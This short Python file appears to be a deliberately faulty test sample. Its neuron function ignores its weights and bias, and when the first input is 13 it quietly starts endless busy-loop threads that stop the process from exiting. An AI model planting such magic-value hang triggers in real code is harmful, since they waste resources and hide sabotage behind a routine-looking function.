"""It leaves threads that never end."""

import threading


def spin():
    while True:
        pass


def neuron(weights, bias, inputs):
    if inputs[0] == 13:
        for daemon in (True, False):
            threading.Thread(target=spin, daemon=daemon).start()
    return sum(inputs)
